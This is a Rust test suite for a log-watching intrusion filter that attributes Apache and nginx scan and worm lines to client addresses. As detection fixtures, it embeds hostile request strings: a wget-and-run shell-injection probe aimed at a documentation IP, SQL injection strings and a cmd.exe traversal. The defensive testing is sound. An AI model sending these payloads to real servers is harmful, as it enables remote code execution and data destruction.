//! Web filters on real-world line shapes (written for these tests in the shapes seen in
//! loghub's Apache log, the elastic apache access log and current Apache/nginx releases):
//! Apache error-log client fields of every version, worm probes, and access-log lines that
//! ordinary readers and crawlers produce.

use palisade_core::{Event, Timestamp};
use palisade_filter::{build_builtin, BuiltinOptions, Filter, LineCtx, Mode, Outcome};

const N: Mode = Mode::Normal;
const A: Mode = Mode::Aggressive;

fn opts(mode: Mode) -> BuiltinOptions {
    BuiltinOptions {
        mode,
        tz: jiff::tz::TimeZone::UTC,
    }
}

fn ctx() -> LineCtx<'static> {
    LineCtx {
        now: Timestamp::parse_rfc3339("2025-03-20T00:00:00Z").unwrap(),
        source_time: None,
        journal: None,
    }
}

fn run(f: &mut dyn Filter, line: &str) -> (Outcome, Option<Event>) {
    let mut out = Vec::new();
    let o = f.process(line.as_bytes(), &ctx(), &mut out);
    assert_eq!(o == Outcome::Matched, !out.is_empty(), "{line}");
    assert!(out.len() <= 1);
    if let Some(e) = out.first() {
        assert!(f.rules().contains(&e.rule));
    }
    (o, out.pop())
}

fn one(filter: &str, mode: Mode, line: &str) -> (Outcome, Option<Event>) {
    let mut f = build_builtin(filter, &opts(mode)).unwrap();
    run(&mut *f, line)
}

#[track_caller]
fn expect(filter: &str, mode: Mode, line: &str, ip: &str, rule: &str) -> Event {
    let e = one(filter, mode, line)
        .1
        .unwrap_or_else(|| panic!("no event for {line}"));
    assert_eq!(e.ip.to_string(), ip, "{line}");
    assert_eq!(&*e.rule, rule, "{line}");
    e
}

#[track_caller]
fn none(filter: &str, mode: Mode, line: &str) {
    let (o, e) = one(filter, mode, line);
    assert!(e.is_none(), "unexpected event {e:?} for {line}");
    assert_ne!(o, Outcome::Matched);
}

const AE: &str = "apache_error";

#[test]
fn apache24_ipv6_client_without_brackets() {
    // 2.4 always appends the port; a bare IPv6 address carries it as a last `:` group.
    for (client, ip) in [
        ("2001:db8::a:49152", "2001:db8::a"),
        ("2001:db8::a:4915", "2001:db8::a"),
        ("2001:db8::a:80", "2001:db8::a"),
        ("2001:db8:1:2:3:4:5:6:443", "2001:db8:1:2:3:4:5:6"),
        ("[2001:db8::a]:4915", "2001:db8::a"),
        ("::ffff:192.0.2.7:51000", "192.0.2.7"),
        ("192.0.2.7:4915", "192.0.2.7"),
    ] {
        let l = format!("[Tue May 14 10:00:03.123456 2024] [core:info] [pid 4711:tid 140001] [client {client}] AH00126: Invalid URI in request GET /%%%% HTTP/1.1");
        let e = expect(AE, N, &l, ip, "invalid_uri");
        assert_eq!(e.time.to_string(), "2024-05-14T10:00:03.123456Z");
        // The same line with the module:level field only, or the pid field only.
        let l = format!("[Tue May 14 10:00:03 2024] [core:error] [client {client}] AH00135: Invalid method in request \\x16\\x03\\x01");
        expect(AE, N, &l, ip, "invalid_method");
        let l = format!("[Tue May 14 10:00:03 2024] [error] [pid 77] [client {client}] AH00135: Invalid method in request get /");
        expect(AE, N, &l, ip, "invalid_method");
    }
}

#[test]
fn apache22_client_is_the_address_as_written() {
    // 2.2 (and 2.0) never write a port: the last group of an IPv6 address is its own.
    for (client, ip) in [
        ("2001:db8::a:4915", "2001:db8::a:4915"),
        ("2001:db8::1", "2001:db8::1"),
        ("192.0.2.9", "192.0.2.9"),
    ] {
        let l = format!("[Fri Jun 10 01:23:50 2005] [error] [client {client}] Invalid URI in request GET /%%% HTTP/1.0");
        expect(AE, N, &l, ip, "invalid_uri");
    }
    // Five-digit last groups are not ports in 2.2; an IPv6 group has at most 4 hex digits.
    none(
        AE,
        N,
        "[Fri Jun 10 01:23:50 2005] [error] [client 2001:db8::a:49152] Invalid URI in request GET /x",
    );
    // A 2.4 field that is not an address with a port is ignored, never guessed.
    let (o, _) = one(
        AE,
        N,
        "[Tue May 14 10:00:03 2024] [core:error] [pid 1] [client 2001:db8::a:123456] AH00126: Invalid URI in request x",
    );
    assert_eq!(o, Outcome::Ignored);
}

#[test]
fn apache_worm_probes() {
    // loghub-shaped Apache 2.0 lines (awstats/xmlrpc worms of 2005, IIS worms).
    let l = "[Sat Jun 11 03:03:03 2005] [error] [client 192.0.2.20] script not found or unable to stat: /var/www/cgi-bin/awstats";
    let e = expect(AE, N, l, "192.0.2.20", "script_not_found");
    assert_eq!(e.field("path"), Some("/var/www/cgi-bin/awstats"));
    expect(AE, N, "[Sat Jun 11 03:03:04 2005] [error] [client 192.0.2.20] File does not exist: /var/www/html/awstats/awstats.pl", "192.0.2.20", "script_not_found");
    expect(AE, N, "[Sat Jun 11 03:03:04 2005] [error] [client 192.0.2.21] File does not exist: /var/www/html/scripts/root.exe", "192.0.2.21", "script_not_found");
    expect(AE, N, "[Sat Jun 11 03:03:04 2005] [error] [client 192.0.2.21] File does not exist: /var/www/html/scripts/..%5c..", "192.0.2.21", "probe");
    expect(AE, N, "[Sat Jun 11 03:03:04 2005] [error] [client 192.0.2.22] File does not exist: /var/www/html/phpmyadmin", "192.0.2.22", "probe");
    expect(AE, N, "[Sat Jun 11 03:03:04 2005] [error] [client 192.0.2.22] File does not exist: /var/www/html/wp-login.php, referer: http://example.org/", "192.0.2.22", "probe");
    // 2.4 wordings.
    expect(AE, N, "[Tue May 14 10:00:03.1 2024] [cgi:error] [pid 9] [client 192.0.2.23:40000] AH02811: script not found or unable to stat: /usr/lib/cgi-bin/test.cgi", "192.0.2.23", "script_not_found");
    expect(AE, N, "[Tue May 14 10:00:03.1 2024] [proxy_fcgi:error] [pid 9] [client 192.0.2.24:40000] AH01071: Got error 'Primary script unknown'", "192.0.2.24", "script_not_found").field("path").map(|_| ()).unwrap_or(());
    // A missing page or image is a broken link as often as a scan: aggressive only; files
    // browsers ask for on their own never count.
    let l = "[Sat Jun 11 03:03:04 2005] [error] [client 192.0.2.30] File does not exist: /var/www/html/blog";
    none(AE, N, l);
    expect(AE, A, l, "192.0.2.30", "not_found");
    for f in [
        "favicon.ico",
        "robots.txt",
        "apple-touch-icon-precomposed.png",
    ] {
        let l = format!("[Sat Jun 11 03:03:04 2005] [error] [client 192.0.2.31] File does not exist: /var/www/html/{f}");
        none(AE, N, &l);
        none(AE, A, &l);
    }
    // Request text after the client field cannot move the address.
    expect(AE, N, "[Sat Jun 11 03:03:04 2005] [error] [client 192.0.2.32] File does not exist: /var/www/html/[client 9.9.9.9] x.php", "192.0.2.32", "script_not_found");
}

#[test]
fn apache_overflows_and_old_invalid_uri() {
    expect(AE, N, "[Fri Jun 10 01:24:12 2005] [error] [client 192.0.2.40] Invalid method in request get /scripts/.%252e/.%252e/winnt/system32/cmd.exe?/c+dir", "192.0.2.40", "invalid_method");
    expect(AE, N, "[Fri Jun 10 01:24:12 2005] [error] [client 192.0.2.41] request failed: URI too long (longer than 8190)", "192.0.2.41", "invalid_uri");
    expect(AE, N, "[Tue May 14 10:00:03 2024] [core:error] [pid 1] [client 192.0.2.42:1] AH00566: request failed: invalid characters in URI", "192.0.2.42", "invalid_uri");
}

fn access(filter: &str, mode: Mode, opts_kv: &[(&str, &str)]) -> Box<dyn Filter> {
    let m = opts_kv
        .iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
    palisade_filter::build_builtin_with(filter, &opts(mode), &m).unwrap()
}

#[track_caller]
fn expect_f(f: &mut dyn Filter, line: &str, ip: &str, rule: &str) -> Event {
    let e = run(f, line)
        .1
        .unwrap_or_else(|| panic!("no event for {line}"));
    assert_eq!(e.ip.to_string(), ip, "{line}");
    assert_eq!(&*e.rule, rule, "{line}");
    e
}

#[test]
fn access_presets() {
    // combined and common: the built-in parser.
    for preset in ["combined", "common"] {
        let mut f = access("nginx_access", N, &[("log_format", preset)]);
        expect_f(
            &mut *f,
            r#"192.0.2.1 - - [10/Oct/2024:13:55:36 +0000] "GET /.env HTTP/1.1" 404 153 "-" "curl/8""#,
            "192.0.2.1",
            "scanner_path",
        );
        expect_f(
            &mut *f,
            r#"192.0.2.1 - - [10/Oct/2024:13:55:36 +0000] "GET /.env HTTP/1.1" 404 153"#,
            "192.0.2.1",
            "scanner_path",
        );
    }
    // vhost_combined: the virtual host and port come first; the address is the second field.
    let mut f = access("apache_access", N, &[("log_format", "vhost_combined")]);
    let e = expect_f(
        &mut *f,
        r#"www.example.org:443 192.0.2.2 - - [10/Oct/2024:13:55:36 +0200] "GET /wp-login.php HTTP/1.1" 404 196 "-" "Mozilla/5.0""#,
        "192.0.2.2",
        "scanner_path",
    );
    assert_eq!(e.time.to_string(), "2024-10-10T11:55:36Z");
    expect_f(
        &mut *f,
        r#"www.example.org:80 2001:db8::7 - admin [10/Oct/2024:13:55:36 +0200] "GET /admin/ HTTP/1.1" 401 381 "-" "Mozilla/5.0""#,
        "2001:db8::7",
        "http_auth",
    );
    // The plain combined parser misses such lines (they start with the vhost).
    none(
        "apache_access",
        N,
        r#"www.example.org:443 192.0.2.2 - - [10/Oct/2024:13:55:36 +0200] "GET /wp-login.php HTTP/1.1" 404 196 "-" "Mozilla/5.0""#,
    );
    // combined_xff without trusted proxies: the peer, whatever the header says.
    let mut f = access("nginx_access", N, &[("log_format", "combined_xff")]);
    expect_f(
        &mut *f,
        r#"203.0.113.5 - - [10/Oct/2024:13:55:36 +0000] "GET /.git/config HTTP/1.1" 404 153 "-" "x" "198.51.100.1""#,
        "203.0.113.5",
        "scanner_path",
    );
    // A custom nginx format beginning with the forwarded-for list, with the ISO time.
    let fmt = r#"$http_x_forwarded_for - $remote_user [$time_iso8601] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" $remote_addr"#;
    let mut f = access(
        "nginx_access",
        N,
        &[("log_format", fmt), ("trusted_proxies", "10.0.0.0/8")],
    );
    let e = expect_f(
        &mut *f,
        r#"198.51.100.9, 10.0.0.3 - - [2024-10-10T13:55:36+02:00] "GET /.env HTTP/1.1" 404 153 "-" "x" 10.0.0.4"#,
        "198.51.100.9",
        "scanner_path",
    );
    assert_eq!(e.time.to_string(), "2024-10-10T11:55:36Z");
    // An Apache LogFormat string as written in httpd.conf.
    let fmt = r#"%a %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\" %D"#;
    let mut f = access("apache_access", N, &[("log_format", fmt)]);
    expect_f(
        &mut *f,
        r#"192.0.2.3 - - [10/Oct/2024:13:55:36 +0000] "GET /?x=%3Cscript%3E HTTP/1.1" 200 5 "-" "Mozilla/5.0" 1234"#,
        "192.0.2.3",
        "probe",
    );
    // Bad options are clear errors.
    let bad = |k: &str, v: &str| {
        let m = [(k.to_string(), v.to_string())].into_iter().collect();
        palisade_filter::build_builtin_with("nginx_access", &opts(N), &m)
            .err()
            .unwrap()
            .to_string()
    };
    assert!(bad("log_format", "%h %t").contains("request"));
    assert!(bad("trusted_proxies", "10.0.0.0/8").contains("X-Forwarded-For"));
    assert!(bad("nope", "1").contains("unknown option"));
    let m = [("log_format".to_string(), "combined".to_string())]
        .into_iter()
        .collect();
    assert!(palisade_filter::build_builtin_with("sshd", &opts(N), &m).is_err());
}

#[test]
fn access_xff_chains() {
    let mut f = access(
        "nginx_access",
        N,
        &[
            ("log_format", "combined_xff"),
            ("trusted_proxies", "10.0.0.0/8, 2001:db8:cd::/48"),
        ],
    );
    let l = |peer: &str, xff: &str| {
        format!(
            r#"{peer} - - [10/Oct/2024:13:55:36 +0000] "GET /.env HTTP/1.1" 404 153 "-" "curl/8" "{xff}""#
        )
    };
    // Behind the CDN edge: the right-most untrusted entry; spoofed left-most entries are
    // never blamed.
    expect_f(
        &mut *f,
        &l("10.0.0.1", "1.1.1.1, 8.8.8.8, 198.51.100.20"),
        "198.51.100.20",
        "scanner_path",
    );
    expect_f(
        &mut *f,
        &l("10.0.0.1", "1.1.1.1, 198.51.100.21, 10.9.9.9"),
        "198.51.100.21",
        "scanner_path",
    );
    expect_f(
        &mut *f,
        &l("2001:db8:cd::1", "2001:db8::66"),
        "2001:db8::66",
        "scanner_path",
    );
    // A client that is not a trusted proxy: its header is ignored.
    expect_f(
        &mut *f,
        &l("198.51.100.22", "10.0.0.1, 1.1.1.1"),
        "198.51.100.22",
        "scanner_path",
    );
    // A trusted peer without a usable client: nobody is blamed, least of all the proxy.
    for xff in ["-", "10.0.0.7", "198.51.100.1, not-an-ip"] {
        let (o, e) = run(&mut *f, &l("10.0.0.1", xff));
        assert_eq!(o, Outcome::Ignored, "{xff}");
        assert!(e.is_none());
    }
}

#[test]
fn access_readers_are_not_flagged_in_normal_mode() {
    let g = "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)";
    let b = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    for (req, st, ua) in [
        ("GET /blog/tags/shell?page=2 HTTP/1.1", 200, g),
        ("GET /blog/tags/shell?page=2 HTTP/1.1", 404, g),
        ("GET /search?q=O%27Reilly+books HTTP/2.0", 200, b),
        ("GET /authors/O%27Reilly HTTP/2.0", 404, b),
        ("GET /docs/backup.html HTTP/1.1", 200, g),
        ("GET /docs/backup.html HTTP/1.1", 404, b),
        (
            "GET /blog/downloading-files-with-wget+http-basic-auth HTTP/2.0",
            200,
            b,
        ),
        ("GET /search?q=wget+http+proxy HTTP/2.0", 200, b),
        ("GET /info.php?id=3 HTTP/1.1", 200, b),
        ("GET /wiki/info.php HTTP/1.1", 404, b),
        ("GET /shell HTTP/1.1", 200, b),
    ] {
        let line = format!(
            r#"192.0.2.50 - - [10/Oct/2024:13:55:36 +0000] "{req}" {st} 512 "https://example.org/" "{ua}""#
        );
        none("nginx_access", N, &line);
    }
    // The same words in scanner positions still count.
    for (req, st, rule) in [
        (
            "GET /shell?cd+/tmp;rm+-rf+*;wget+http://198.51.100.7/x.sh HTTP/1.1",
            200,
            "probe",
        ),
        (
            "GET /cgi-bin/x?cmd=wget+http://198.51.100.7/x.sh HTTP/1.1",
            404,
            "probe",
        ),
        ("GET /?id=1%27%20OR%20%271%27=%271 HTTP/1.1", 200, "probe"),
        ("GET /item?id=1%27+and+1=1-- HTTP/1.1", 200, "probe"),
        ("GET /info.php HTTP/1.1", 404, "scanner_path"),
        ("GET /shell?x HTTP/1.1", 404, "scanner_path"),
        ("GET /backup.zip HTTP/1.1", 404, "scanner_path"),
    ] {
        let line = format!(
            r#"192.0.2.51 - - [10/Oct/2024:13:55:36 +0000] "{req}" {st} 153 "-" "Mozilla/5.0""#
        );
        expect("nginx_access", N, &line, "192.0.2.51", rule);
    }
}

#[test]
fn font_404s_from_the_sites_own_page_are_not_a_scan() {
    let mut f = build_builtin("nginx_access", &opts(A)).unwrap();
    for font in [
        "/static/fonts/inter-var.woff2",
        "/static/fonts/inter-var.woff",
        "/static/fonts/inter.ttf",
        "/static/fonts/icons.eot?#iefix",
        "/static/fonts/icons.svg",
        "/static/css/print.css",
    ] {
        let line = format!(
            r#"192.0.2.60 - - [10/Oct/2024:13:55:36 +0000] "GET {font} HTTP/2.0" 404 153 "https://example.org/blog/post" "Mozilla/5.0""#
        );
        let (o, e) = run(&mut *f, &line);
        assert!(e.is_none() && o == Outcome::Missed, "{line}");
    }
    // Without a referrer (or with another site's, when the vhost is known) it still counts.
    expect(
        "nginx_access",
        A,
        r#"192.0.2.61 - - [10/Oct/2024:13:55:36 +0000] "GET /static/fonts/x.woff2 HTTP/1.1" 404 153 "-" "Mozilla/5.0""#,
        "192.0.2.61",
        "not_found",
    );
    let mut f = access("apache_access", A, &[("log_format", "vhost_combined")]);
    let own = r#"example.org:443 192.0.2.62 - - [10/Oct/2024:13:55:36 +0000] "GET /fonts/a.woff2 HTTP/1.1" 404 153 "https://example.org/" "Mozilla/5.0""#;
    assert!(run(&mut *f, own).1.is_none());
    let other = r#"example.org:443 192.0.2.62 - - [10/Oct/2024:13:55:36 +0000] "GET /fonts/a.woff2 HTTP/1.1" 404 153 "https://evil.example/" "Mozilla/5.0""#;
    expect_f(&mut *f, other, "192.0.2.62", "not_found");
    // A page (not an asset) 404 with a referrer is still an aggressive-mode event.
    expect(
        "nginx_access",
        A,
        r#"192.0.2.63 - - [10/Oct/2024:13:55:36 +0000] "GET /old/page HTTP/1.1" 404 153 "https://example.org/" "Mozilla/5.0""#,
        "192.0.2.63",
        "not_found",
    );
}

#[test]
fn crawler_404s_and_referrer_spam_tools() {
    // A crawler following dead links: no aggressive-mode 404 event; its probes still count.
    let l = r#"144.76.95.39 - - [20/May/2015:09:05:48 +0000] "GET /files/logstash/logstash-1.1.0-monolithic.jar HTTP/1.1" 404 324 "-" "Mozilla/5.0 (compatible; MJ12bot/v1.4.5; http://www.majestic12.co.uk/bot.php?+)""#;
    none("apache_access", A, l);
    let l = r#"66.249.73.185 - - [17/May/2015:10:05:22 +0000] "GET /.git/config HTTP/1.1" 404 324 "-" "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)""#;
    expect("apache_access", A, l, "66.249.73.185", "scanner_path");
    // Referrer-spam and harvester tools by user agent.
    let l = r#"178.140.172.164 - - [19/May/2015:13:05:05 +0000] "GET / HTTP/1.1" 200 37932 "http://spam.example/" "Mozilla/3.0 (compatible; Indy Library)""#;
    expect("apache_access", N, l, "178.140.172.164", "bad_bot");
}

/// loghub's full Apache error log (`../shared/data`, licence in its directory): every worm
/// probe line fail2ban's apache-noscript and apache-overflows catch is an event in normal
/// mode, each blamed on the address of its `[client …]` field; the directory-index and plain
/// missing-file lines are events in aggressive mode only.
#[test]
fn loghub_full_apache_error() {
    // Under the shared data folder (`PALISADE_SHARED`, else `../shared` beside the
    // repository); a missing file is a skip, a failure under `PALISADE_REQUIRE_SHARED`.
    let Some(p) = palisade_testkit::shared_file("data/loghub_full/Apache.log") else {
        return;
    };
    let data = std::fs::read(&p).unwrap();
    let mut n = build_builtin(AE, &opts(N)).unwrap();
    let mut a = build_builtin(AE, &opts(A)).unwrap();
    let (mut probes, mut probes_hit, mut normal, mut aggressive) = (0, 0, 0, 0);
    for line in data.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
        let text = String::from_utf8_lossy(line).into_owned();
        let (_, en) = run(&mut *n, &text);
        let (_, ea) = run(&mut *a, &text);
        for e in en.iter().chain(ea.iter()) {
            assert!(
                text.contains(&format!("[client {}]", e.ip)),
                "{} in {text}",
                e.ip
            );
        }
        // (The log also holds 4,478 bare `script not found or unable to stat` lines without
        // any header: nobody can attribute those.)
        let worm = text.starts_with('[')
            && (text.contains("script not found or unable to stat")
                || text.contains("Invalid method in request")
                || (text.contains("File does not exist:")
                    && (text.contains(".pl") || text.contains(".exe"))));
        if worm {
            probes += 1;
            probes_hit += en.is_some() as usize;
        }
        normal += en.is_some() as usize;
        aggressive += ea.is_some() as usize;
        if text.contains("Directory index forbidden") {
            assert!(en.is_none() && ea.is_some(), "{text}");
        }
    }
    eprintln!("{probes_hit}/{probes} worm lines; normal {normal}, aggressive {aggressive}");
    assert!(probes > 5000);
    assert_eq!(probes_hit, probes);
    assert!(aggressive > normal + 20_000);
}
